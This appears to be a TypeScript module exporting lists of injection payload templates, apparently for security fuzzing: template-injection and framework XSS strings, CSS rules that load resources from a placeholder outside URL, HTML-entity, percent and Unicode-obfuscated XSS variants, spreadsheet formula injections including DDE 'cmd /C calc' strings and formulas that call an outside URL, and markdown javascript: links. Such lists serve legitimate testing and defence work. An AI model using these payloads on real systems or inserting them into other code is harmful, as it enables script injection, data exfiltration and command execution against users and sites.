import { cross } from './cross.ts';

const templates = [
  ...cross(
    ['{{§}}', '${§}', '#{§}', '<%= § %>', '[[§]]', '{%§%}', '@(§)'],
    ["constructor.constructor('{js}')()", '{js}'],
  ),
  '{{$on.constructor("{js}")()}}',
  '<div ng-app ng-csp><input ng-focus={js} autofocus></div>',
  '<div v-html="\'<img src=x onerror={js}>\'"></div>',
  '{"__proto__":{"innerHTML":"<img src=x onerror={js}>"}}',
  '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onerror":"{js}"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror={js}>"}}',
];

const css = [
  '<style>*{background:url({url}.png)}</style>',
  '<style>@import "{url}.css";</style>',
  '<style>@font-face{font-family:x;src:url({url}.woff)}*{font-family:x}</style>',
  '<div style="background:url({url}.png)">x</div>',
  '<div style="background-image:image-set(url({url}.png) 1x)">x</div>',
  '<div style="width:expression({js})">x</div>',
  '<div style="-moz-binding:url({url}.xml#x)">x</div>',
  '<ul style="list-style:url({url}.png)"><li>x</ul>',
  '<div style="cursor:url({url}.cur),auto">x</div>',
  '<div style="content:url({url}.png)">x</div>',
  ');background:url({url}.png);(',
  '};*{background:url({url}.png)}/*',
  '</style><img src=x onerror={js}>',
  '<link rel=stylesheet href="data:text/css,*{background:url({url}.png)}">',
];

const encoded = [
  '&lt;script&gt;{js}&lt;/script&gt;',
  '&amp;lt;img src=x onerror={js}&amp;gt;',
  '&#60;img src=x onerror={js}&#62;',
  '&#x3c;img src=x onerror={js}&#x3e;',
  '%3Cimg%20src%3Dx%20onerror%3D{js}%3E',
  '%253Cimg%2520src%253Dx%2520onerror%253D{js}%253E',
  '\\u003cimg src=x onerror={js}\\u003e',
  '\\x3cimg src=x onerror={js}\\x3e',
  '+ADw-script+AD4-{js}+ADw-/script+AD4-',
  '<img src=x onerror=&#x65;val(&#39;{js}&#39;)>',
  '<img src=x onerror="&lpar;0,{js}&rpar;">',
  '<a href="&#106;&#97;&#118;&#97;script:{js}">x</a>',
];

const unicode = [
  '\u202e<img src=x onerror={js}>',
  '\u200b<img\u200b src=x onerror={js}>',
  '\ufeff<svg onload={js}>',
  '＜script＞{js}＜/script＞',
  '\u2028<script>{js}</script>\u2029',
  '<ſcript>{js}</ſcript>',
  '<img src=x onerror\u00a0={js}>',
  '<\u0131mg src=x onerror={js}>',
  'İ<img src=x onerror={js}>',
  '\u{1f4a9}"><svg onload={js}>',
  '<img\u000csrc=x\u000conerror={js}>',
  'e\u0301'.repeat(400) + '<svg onload={js}>',
];

/** What a spreadsheet may take for a formula. */
const formulas = [
  '=HYPERLINK("{url}","x")',
  '=IMPORTXML("{url}","//a")',
  '=IMAGE("{url}.png")',
  '=WEBSERVICE("{url}")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=HYPERLINK("{url}")',
  '"=HYPERLINK(""{url}"")"',
];

const markdown = [
  '[x](javascript:{js})',
  '![x]({url}.png)',
  '[x]({url} "onmouseover={js}")',
  '<javascript:{js}>',
  '![x](x"onerror="{js})',
  '```html\n<img src=x onerror={js}>\n```',
  '[x]: javascript:{js}\n\n[x]',
];

export const textPayloads = { templates, css, encoded, unicode, formulas, markdown };
